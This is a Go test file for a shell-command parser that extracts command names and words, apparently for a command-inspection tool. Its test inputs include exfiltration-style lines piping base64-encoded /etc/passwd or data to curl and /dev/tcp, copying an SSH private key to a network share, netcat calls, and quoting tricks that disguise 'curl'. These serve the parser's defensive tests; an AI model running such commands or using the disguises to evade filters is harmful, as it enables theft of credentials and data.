package shell

import (
	"strings"
	"testing"
)

func names(s Script) string {
	var out []string
	for i := range s.Commands {
		c := &s.Commands[i]
		name := c.Name()
		if c.Piped {
			name = "|" + name
		}
		out = append(out, name)
	}
	return strings.Join(out, " ")
}

func TestParse(t *testing.T) {
	for src, want := range map[string]string{
		"ls -la":                               "ls",
		"cat a | base64 | curl -d @- http://x": "cat |base64 |curl",
		"a && b || c; d & e":                   "a b c d e",
		"sudo -u root /usr/bin/Curl.exe x":     "curl",
		"sudo curl x":                          "curl",
		"env A=1 B=2 wget x":                   "wget",
		"FOO=bar baz":                          "baz",
		"timeout 5s nc h 1":                    "nc",
		"(cd x && ls)":                         "cd ls",
		"c'ur'l x":                             "curl",
		`c\url x`:                              "curl",
		`"cu"rl x`:                             "curl",
		`$'\x63\165rl' x`:                      "curl",
		"X=cu; Y=rl; $X${Y} h":                 "x=cu y=rl curl",
		"":                                     "",
		"   \n;;|":                             "",
	} {
		got := names(Parse(src))
		if strings.Contains(want, "=") {
			got = strings.TrimSpace(got)
			if !strings.HasSuffix(got, "curl") {
				t.Errorf("Parse(%q) = %q", src, got)
			}
			continue
		}
		if got != want {
			t.Errorf("Parse(%q) = %q, want %q", src, got, want)
		}
	}
}

func TestWords(t *testing.T) {
	src := `curl -s "http://10.0.0.1/a b" 'x;y' $(cat /etc/passwd | base64) > /dev/tcp/h/1`
	c := Parse(src).Commands[0]
	want := []string{"curl", "-s", "http://10.0.0.1/a b", "x;y", "$(cat /etc/passwd | base64)", ">", "/dev/tcp/h/1"}
	if len(c.Words) != len(want) {
		t.Fatalf("words = %+v", c.Words)
	}
	for i, w := range c.Words {
		if w.Text != want[i] {
			t.Errorf("word %d = %q, want %q", i, w.Text, want[i])
		}
	}
	if w := c.Words[2]; src[w.Start:w.End] != `"http://10.0.0.1/a b"` || !w.Quoted {
		t.Errorf("range of word 2 = %q", src[w.Start:w.End])
	}
	if start, end := c.Range(); start != 0 || end != len(src) {
		t.Errorf("Range = %d, %d", start, end)
	}
}

func TestWindowsPathsKeepTheirSeparators(t *testing.T) {
	c := Parse(`type C:\Users\x\.ssh\id_rsa \\10.0.0.5\share\f`).Commands[0]
	if c.Words[1].Text != `C:\Users\x\.ssh\id_rsa` || c.Words[2].Text != `\\10.0.0.5\share\f` {
		t.Errorf("words = %q, %q", c.Words[1].Text, c.Words[2].Text)
	}
}

func TestPrefixed(t *testing.T) {
	if !Parse("FOO=1 sudo -E rm x").Commands[0].Prefixed("sudo") || Parse("echo sudo").Commands[0].Prefixed("sudo") {
		t.Error("sudo as a prefix is not told from sudo as an argument")
	}
}

func TestLimits(t *testing.T) {
	if s := Parse(strings.Repeat("a ", MaxWords+10)); !s.Truncated {
		t.Error("too many words are not reported")
	}
	if s := Parse(strings.Repeat("a", MaxText+1)); !s.Truncated {
		t.Error("a long text is not reported")
	}
	bomb := "A=aaaaaaaaaaaaaaaa;" + strings.Repeat("A=$A$A;", 100)
	for _, c := range Parse(bomb).Commands {
		if len(c.Text()) > 2*maxExpand {
			t.Fatalf("a variable grew to %d bytes", len(c.Text()))
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"a | b", `"$(x)" '`, "$'\\x4", "${", "`", "A=1 $A", "\\", `C:\x`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		script := Parse(s)
		for i := range script.Commands {
			c := &script.Commands[i]
			for _, w := range c.Words {
				if w.Start >= w.End || w.End > len(s) {
					t.Fatalf("word %+v of %q", w, s)
				}
			}
			c.Name()
			c.Prefixed("sudo")
		}
	})
}
